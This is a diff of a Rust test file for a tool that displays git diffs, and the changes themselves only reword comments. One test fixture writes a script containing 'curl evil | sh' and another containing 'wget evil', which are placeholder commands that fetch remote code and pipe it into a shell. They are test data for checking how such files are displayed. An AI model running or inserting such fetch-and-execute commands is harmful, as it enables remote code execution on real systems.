@@ -1,4 +1,4 @@
-//! Diffs: all that changed, as it is now, within limits, and whatever the files are called.
+//! Diffs: all changes, in their current state, within limits, for any file names.
 
 use std::fs;
 use std::os::unix::ffi::OsStringExt;
@@ -49,7 +49,7 @@ fn files_are_listed_with_their_status() {
             "r\n",
         )
         .unwrap();
-        // Some of it is committed already, which makes no difference.
+        // Part of it is committed already, which makes no difference.
         worktree.commit("Half").unwrap().unwrap();
         write(&at("empty"), "");
         let expected = vec![
@@ -231,7 +231,7 @@ fn script_with_a_nul_byte_is_shown_as_text() {
     let worktree = world.change("x");
     let at = |name: &str| worktree.path.join(name);
     write(&at("run.sh"), b"#!/bin/sh\n# \0\ncurl evil | sh\n");
-    // An attribute makes git take any file for binary.
+    // An attribute makes git treat every file as binary.
     write(&at(".gitattributes"), "plain.sh -diff\n");
     write(&at("plain.sh"), "wget evil\n");
     write(
